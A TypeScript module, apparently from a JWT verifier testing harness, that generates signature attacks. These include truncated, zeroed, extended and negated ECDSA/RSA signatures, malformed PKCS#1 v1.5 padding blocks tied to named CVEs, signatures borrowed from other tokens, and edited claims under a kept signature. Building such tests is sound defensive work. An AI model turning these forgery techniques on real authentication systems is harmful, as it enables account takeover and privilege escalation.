/** Signatures cut, stretched, borrowed and forged (RFC 7515 5.2, RFC 7518 3.3 and 3.4, RFC 8017 8.2.2). */
import { constants, createHash, privateEncrypt } from 'node:crypto'
import type { SigningKey } from '../../testing/issuer.ts'
import { encode, signature as sign } from '../../testing/mint.ts'
import type { Visitor, World } from '../world/world.ts'
import type { Attack } from './attack.ts'
import { request } from './request-step.ts'
import { promoted } from './serialization.ts'
import { type Tokens, tokenAttack } from './token-attack.ts'
import { attackerToken, issuedToken, partsOf, unsigned } from './tokens.ts'

/** `input`: what was signed. */
type Rewrite = (signature: Buffer, key: SigningKey, input: string) => Buffer | null

const order: Partial<Record<string, bigint>> = {
  ES256: 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n,
  ES384: 0xffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973n,
  ES512:
    0x1fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffa51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409n,
}

const rewrites: readonly { name: string; source: string; rewrite: Rewrite }[] = [
  { name: 'stripped', source: 'CVE-2020-28042', rewrite: () => Buffer.alloc(0) },
  { name: 'one-octet', source: 'CVE-2024-42459', rewrite: (signature) => signature.subarray(0, 1) },
  { name: 'half', source: 'CVE-2024-42459', rewrite: (signature) => signature.subarray(0, signature.length / 2) },
  { name: 'short-by-one', source: 'CVE-2024-42459', rewrite: (signature) => signature.subarray(0, -1) },
  { name: 'first-octet-cut', source: 'RFC 7518 3.3', rewrite: (signature) => signature.subarray(1) },
  { name: 'long-by-one', source: 'CVE-2024-42459', rewrite: (signature) => Buffer.concat([signature, Buffer.of(0)]) },
  { name: 'doubled', source: 'CVE-2024-42459', rewrite: (signature) => Buffer.concat([signature, signature]) },
  { name: 'leading-zero', source: 'CVE-2020-14968', rewrite: (signature) => Buffer.concat([Buffer.of(0), signature]) },
  { name: 'zeros', source: 'CVE-2022-21449', rewrite: (signature) => Buffer.alloc(signature.length) },
  {
    name: 'one',
    source: 'RFC 8017 5.2.2',
    rewrite: ({ length }) => Buffer.concat([Buffer.alloc(length - 1), Buffer.of(1)]),
  },
  { name: 'all-ones', source: 'RFC 8017 5.2.2', rewrite: ({ length }) => Buffer.alloc(length, 0xff) },
  { name: 'reversed', source: 'RFC 8017 4.2', rewrite: (signature) => Buffer.from(signature).reverse() },
  { name: 'first-octet-changed', source: 'RFC 7515 5.2', rewrite: (signature) => flipped(signature, 0) },
  {
    name: 'middle-octet-changed',
    source: 'RFC 7515 5.2',
    rewrite: (signature) => flipped(signature, signature.length >> 1),
  },
  {
    name: 'last-octet-changed',
    source: 'RFC 7515 5.2',
    rewrite: (signature) => flipped(signature, signature.length - 1),
  },
  {
    name: 'second-half-zero',
    source: 'CVE-2022-24884',
    rewrite: ({ length }) => Buffer.concat([Buffer.alloc(length / 2, 1), Buffer.alloc(length / 2)]),
  },
  {
    name: 'first-half-zero',
    source: 'CVE-2022-24884',
    rewrite: ({ length }) => Buffer.concat([Buffer.alloc(length / 2), Buffer.alloc(length / 2, 1)]),
  },
  { name: 'modulus-added', source: 'RFC 8017 5.2.2', rewrite: plusModulus },
  { name: 'group-order', source: 'CVE-2022-21449', rewrite: groupOrder },
  {
    name: 'der',
    source: 'CVE-2024-42461',
    rewrite: (_, key, input) => (key.algorithm.startsWith('ES') ? sign(key, input, { der: true }) : null),
  },
  { name: 'negated-s', source: 'CVE-2024-42461', rewrite: negated },
  { name: 'text', source: 'RFC 7515 5.2', rewrite: () => Buffer.from('undefined') },
]

const rewritten = rewrites.map(({ name, source, rewrite }) =>
  tokenAttack(`signature-${name}`, 'signature', source, (world, visitor): Tokens => {
    const key = visitor.issuer.keys[0]
    const [header, payload, signature] = partsOf(issuedToken(world, visitor))
    const octets = rewrite(Buffer.from(signature, 'base64url'), key, `${header}.${payload}`)
    if (octets === null) return null
    const claims = encode(promoted(visitor))
    return [payload, claims].map((text) => `${header}.${text}.${encode(octets)}`)
  }),
)

/** What PKCS #1 v1.5 padding must hold, and what of it a lenient check lets go; only the issuer can compute these. */
const paddings: readonly { name: string; source: string; block: (hash: Buffer) => Buffer }[] = [
  { name: 'bare-hash', source: 'RFC 8017 9.2', block: (hash) => hash },
  {
    name: 'digest-info-without-null',
    source: 'RFC 8017 9.2',
    block: (hash) =>
      Buffer.concat([Buffer.from('302f300b0609608648016503040201', 'hex'), Buffer.from('0420', 'hex'), hash]),
  },
  {
    name: 'trailing-garbage',
    source: 'CVE-2006-4339',
    block: (hash) => Buffer.concat([sha256Info, hash, Buffer.alloc(16, 0x41)]),
  },
  {
    name: 'sha1-info',
    source: 'CVE-2021-30246',
    block: (hash) => Buffer.concat([Buffer.from('3021300906052b0e03021a05000414', 'hex'), hash.subarray(0, 20)]),
  },
  {
    name: 'sha384-info',
    source: 'CVE-2022-24773',
    block: (hash) => Buffer.concat([Buffer.from('3031300d060960864801650304020205000420', 'hex'), hash]),
  },
  {
    name: 'sha512-info',
    source: 'CVE-2022-24773',
    block: (hash) => Buffer.concat([Buffer.from('3031300d060960864801650304020305000420', 'hex'), hash]),
  },
  {
    name: 'md5-info',
    source: 'CVE-2021-30246',
    block: (hash) => Buffer.concat([Buffer.from('3020300c06082a864886f70d020505000410', 'hex'), hash.subarray(0, 16)]),
  },
  {
    name: 'zeros-for-info',
    source: 'CVE-2022-24773',
    block: (hash) => Buffer.concat([Buffer.alloc(sha256Info.length), hash]),
  },
  {
    name: 'garbage-in-parameters',
    source: 'CVE-2018-16152',
    block: (hash) =>
      Buffer.concat([
        Buffer.from('3039301506096086480165030402010408', 'hex'),
        Buffer.alloc(8, 0x41),
        sha256Tail,
        hash,
      ]),
  },
  { name: 'hash-twice', source: 'CVE-2022-24772', block: (hash) => Buffer.concat([sha256Info, hash, hash]) },
]
const sha256Tail = Buffer.from('0420', 'hex')
const sha256Info = Buffer.from('3031300d060960864801650304020105000420', 'hex')

const badlyPadded = paddings.map(({ name, source, block }) =>
  tokenAttack(`signature-padding-${name}`, 'signature', source, (_world, { issuer, claims }) => {
    const key = issuer.keys[0]
    if (key.algorithm !== 'RS256') return null
    const input = unsigned({ alg: 'RS256', kid: key.kid }, claims).slice(0, -1)
    const hash = createHash('sha256').update(input).digest()
    const options = { key: key.privateKey, padding: constants.RSA_PKCS1_PADDING }
    return `${input}.${privateEncrypt(options, block(hash)).toString('base64url')}`
  }),
)

const borrowed: readonly { name: string; source: string; texts: (world: World, visitor: Visitor) => Tokens }[] = [
  {
    name: 'of-another-token',
    source: 'RFC 7515 5.2',
    texts: (world, visitor) => {
      const [header, payload] = partsOf(issuedToken(world, visitor))
      return [`${header}.${payload}.${partsOf(issuedToken(world, visitor, { jti: 'another' }))[2]}`]
    },
  },
  {
    name: 'of-another-header',
    source: 'RFC 7515 5.2',
    texts: (world, visitor) => {
      const [, payload, signature] = partsOf(issuedToken(world, visitor))
      const { kid, algorithm } = visitor.issuer.keys[0]
      return unsigned({ alg: algorithm, kid, typ: 'JWT' }, '', signature).replace('..', `.${payload}.`)
    },
  },
  {
    name: 'of-attacker',
    source: 'RFC 7515 5.2',
    texts: (world, visitor) => {
      const [header, payload] = partsOf(issuedToken(world, visitor))
      return `${header}.${payload}.${partsOf(attackerToken(world, visitor.claims))[2]}`
    },
  },
  {
    name: 'parts-swapped',
    source: 'RFC 7515 7.1',
    texts: (world, visitor) => {
      const [header, payload, signature] = partsOf(issuedToken(world, visitor))
      return [`${payload}.${header}.${signature}`, `${header}.${signature}.${payload}`]
    },
  },
]

const borrowedSignatures = borrowed.map(({ name, source, texts }) =>
  tokenAttack(`signature-${name}`, 'signature', source, texts),
)

/** The claims are edited and the signature kept: what a token decoded but not verified would give. */
const promotedClaims: Attack = {
  name: 'signature-kept-claims-changed',
  class: 'signature',
  source: 'RFC 7515 5.2',
  build(world, random) {
    const visitor = random.pick(world.visitors)
    const [header, , signature] = partsOf(issuedToken(world, visitor))
    const token = `${header}.${encode(promoted(visitor))}.${signature}`
    return { steps: [...visitor.granted, ...visitor.denied].map((uri) => request(world, { uri, token })) }
  },
}

export const signatureAttacks = [...rewritten, ...badlyPadded, ...borrowedSignatures, promotedClaims]

function flipped(signature: Buffer, index: number): Buffer {
  const copy = Buffer.from(signature)
  copy[index] = (copy[index] ?? 0) ^ 1
  return copy
}

/** s + n is the same residue; a verifier has to refuse representatives outside the modulus. */
function plusModulus(signature: Buffer, { jwk }: SigningKey): Buffer | null {
  if (typeof jwk.n !== 'string') return null
  const modulus = BigInt(`0x${Buffer.from(jwk.n, 'base64url').toString('hex')}`)
  return fromInteger(toInteger(signature) + modulus, signature.length)
}

function groupOrder(signature: Buffer, { algorithm }: SigningKey): Buffer | null {
  const n = order[algorithm]
  if (n === undefined) return null
  const half = fromInteger(n, signature.length / 2)
  return Buffer.concat([half, half])
}

/** (r, n − s) verifies wherever (r, s) does: a second spelling without the key. */
function negated(signature: Buffer, { algorithm }: SigningKey): Buffer | null {
  const n = order[algorithm]
  if (n === undefined) return null
  const half = signature.length / 2
  return Buffer.concat([signature.subarray(0, half), fromInteger(n - toInteger(signature.subarray(half)), half)])
}

function toInteger(octets: Buffer): bigint {
  return BigInt(`0x${octets.toString('hex')}`)
}

function fromInteger(value: bigint, atLeast: number): Buffer {
  const hex = value.toString(16).padStart(atLeast * 2, '0')
  return Buffer.from(hex.length % 2 === 0 ? hex : `0${hex}`, 'hex')
}
